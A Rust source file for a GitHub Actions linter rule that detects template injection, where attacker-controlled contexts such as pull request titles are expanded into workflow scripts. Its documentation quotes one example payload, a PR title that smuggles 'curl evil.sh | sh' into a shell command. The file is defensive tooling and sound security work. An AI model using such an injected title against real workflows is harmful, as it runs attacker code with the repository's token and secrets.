//! `template-injection`: attacker-controllable contexts expanded into code.

use std::sync::LazyLock;

use crate::finding::{Location, Severity};
use crate::model::Step;
use crate::model::expr;
use crate::rules::{Cx, Rule, RuleMeta, StepHost};

pub struct TemplateInjection;

crate::rule_meta!(
    TemplateInjection,
    "template-injection",
    Severity::High,
    "attacker-controllable context expanded into a script",
    r#"## What it does
Finds `${{ … }}` expressions that read a context an outside attacker controls (issue, pull
request, comment and review titles and bodies, head branch names and labels, commit messages
and authors, `github.head_ref`, …) expanded into a `run:` script or into the `script:` of
`actions/github-script`.

## Why is this bad
GitHub substitutes the expression into the script text *before* the shell or Node.js runs it.
A pull request titled `a"; curl evil.sh | sh; echo "` becomes code running with the job's
token, secrets and cloud credentials. On `pull_request_target`, `issue_comment` or
`workflow_run` triggers that is a write token on the base repository.

## Example
```yaml
      - run: echo "Title: ${{ github.event.pull_request.title }}"
```

## Use instead
Pass the value through an environment variable, which the shell treats as data:
```yaml
      - run: echo "Title: $TITLE"
        env:
          TITLE: ${{ github.event.pull_request.title }}
```

## References
- https://securitylab.github.com/resources/github-actions-untrusted-input/
- https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections
- zizmor `template-injection`: https://docs.zizmor.sh/audits/#template-injection
"#
);

fn table(text: &'static str) -> Vec<Vec<&'static str>> {
    text.lines()
        .map(str::trim)
        .filter(|line| !line.is_empty() && !line.starts_with('#'))
        .map(|line| line.split('.').collect())
        .collect()
}

/// Contexts an outside attacker controls, as data beside the rule pack.
static UNTRUSTED: LazyLock<Vec<Vec<&'static str>>> = LazyLock::new(|| {
    table(include_str!(
        "../../../rules/workflow/untrusted-contexts.txt"
    ))
});

/// Contexts that cannot carry shell syntax.
static FIXED: LazyLock<Vec<Vec<&'static str>>> =
    LazyLock::new(|| table(include_str!("../../../rules/workflow/fixed-contexts.txt")));

/// Whether a normalised context path (`github.event.commits.*.message`) is attacker-controlled.
pub fn is_untrusted(context: &str) -> bool {
    let parts: Vec<&str> = context.split('.').collect();
    UNTRUSTED
        .iter()
        .any(|pattern| matches_pattern(pattern, &parts))
}

/// How dangerous expanding `context` into code is: high when outsiders choose its text,
/// medium when whoever triggers the workflow may, `None` when its shape is fixed.
pub fn danger(context: &str) -> Option<Severity> {
    let parts: Vec<&str> = context.split('.').collect();
    if UNTRUSTED
        .iter()
        .any(|pattern| matches_pattern(pattern, &parts))
    {
        return Some(Severity::High);
    }
    if FIXED.iter().any(|pattern| matches_pattern(pattern, &parts)) {
        return None;
    }
    let free_text = matches!(parts.first(), Some(&"github") | Some(&"inputs")) && parts.len() > 1;
    free_text.then_some(Severity::Medium)
}

/// Matches a path against a pattern: `*` is one segment, `**` any run of one or more.
fn matches_pattern(pattern: &[&str], parts: &[&str]) -> bool {
    match (pattern.split_first(), parts.split_first()) {
        (None, None) => true,
        (Some((&"**", rest)), Some(_)) => {
            (1..=parts.len()).any(|n| matches_pattern(rest, &parts[n..]))
        }
        (Some((segment, rest)), Some((part, tail))) => {
            (*segment == "*" || *part == "*" || segment.eq_ignore_ascii_case(part))
                && matches_pattern(rest, tail)
        }
        _ => false,
    }
}

impl Rule for TemplateInjection {
    fn meta(&self) -> &'static RuleMeta {
        Self::META
    }

    fn check_step(&self, cx: &mut Cx, _host: &StepHost, step: &Step) {
        let (route, code, sink_name) = if let Some(code) = step.run() {
            (step.route.key("run"), code, "a shell script")
        } else if step.uses_action("actions/github-script") {
            let Some(code) = step.with("script").and_then(|n| n.as_str()) else {
                return;
            };
            (step.with_route("script"), code, "github-script code")
        } else {
            return;
        };
        for expression in expr::expressions(code) {
            let worst = expr::contexts(expression.inner)
                .into_iter()
                .filter_map(|context| danger(&context).map(|severity| (severity, context)))
                .max_by_key(|(severity, _)| *severity);
            let Some((severity, context)) = worst else {
                continue;
            };
            let message = match severity {
                Severity::High => {
                    format!("`{context}` is attacker-controllable and is expanded into {sink_name}")
                }
                _ => format!(
                    "`{context}` can be chosen by whoever triggers the workflow and is expanded into {sink_name}"
                ),
            };
            cx.report(
                Self::META
                    .finding(
                        message,
                        Location::fragment(route.clone(), expression.text)
                            .labelled("expanded here before the script runs"),
                    )
                    .severity(severity),
            );
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn patterns() {
        assert!(is_untrusted("github.event.issue.title"));
        assert!(is_untrusted("github.event.commits.*.message"));
        assert_eq!(danger("github.event.inputs.name"), Some(Severity::Medium));
        assert!(!is_untrusted("github.event.issue.number"));
        assert!(!is_untrusted("github.event.pull_request.head.sha"));
        assert!(!is_untrusted("github.event.inputs"));
        assert_eq!(danger("github.event.pull_request.number"), None);
        assert_eq!(danger("github.event.pull_request.head.sha"), None);
        assert_eq!(danger("github.ref_name"), Some(Severity::Medium));
        assert_eq!(danger("steps.x.outputs.y"), None);
        assert_eq!(danger("github.event.comment.body"), Some(Severity::High));
    }
}
